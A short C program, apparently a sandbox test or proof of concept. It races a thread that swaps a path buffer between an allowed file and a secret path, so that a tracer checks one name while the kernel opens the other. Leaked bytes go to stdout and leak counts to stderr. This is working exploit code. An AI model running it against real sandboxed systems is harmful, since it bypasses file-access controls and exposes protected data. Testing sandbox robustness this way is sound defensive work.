#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/*
 * A second thread flips the path buffer between an allowed file and the
 * secret (argv[1]) while the main thread opens it: the tracer may read the
 * allowed name and the kernel then open the secret.  Whatever is read that
 * is not the allowed file's content goes to stdout.
 */
static const char *allowed = "/etc/ld.so.cache";
static const char *secret;
static char path[4096];
static volatile int stop;

static void *flipper(void *arg)
{
	size_t ls = strlen(secret) + 1, la = strlen(allowed) + 1;

	while (!stop) {
		memcpy(path, secret, ls);
		memcpy(path, allowed, la);
	}
	return arg;
}

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	char expect[64], buf[64];
	long opened = 0, refused = 0, leaked = 0, start;
	pthread_t t;
	int fd;

	if (argc < 2)
		return 1;
	secret = argv[1];
	fd = open(allowed, O_RDONLY);
	if (fd < 0 || read(fd, expect, sizeof(expect)) != sizeof(expect))
		return 2;
	close(fd);
	strcpy(path, allowed);
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return 3;
	start = now_ms();
	while (now_ms() - start < 400) {
		fd = open(path, O_RDONLY);
		if (fd < 0) {
			refused++;
			continue;
		}
		opened++;
		memset(buf, 0, sizeof(buf));
		if (read(fd, buf, sizeof(buf)) > 0 && memcmp(buf, expect, sizeof(buf)) != 0) {
			fwrite(buf, 1, sizeof(buf), stdout);
			leaked++;
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	fprintf(stderr, "opened %ld, refused %ld, leaked %ld\n", opened, refused, leaked);
	return 0;
}
